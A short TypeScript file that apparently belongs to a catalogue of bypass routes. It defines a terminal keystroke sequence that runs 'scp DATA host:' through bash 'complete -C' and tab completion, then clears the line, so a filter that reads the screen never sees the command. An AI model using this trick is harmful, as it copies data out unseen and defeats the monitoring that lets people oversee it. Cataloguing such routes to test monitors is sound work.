import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by completion',
  source: 'terminal routes past a filter that reads the screen',
  keys: ["complete -C 'scp DATA host:' foo\r", 'foo \t\t\u0015'],
};
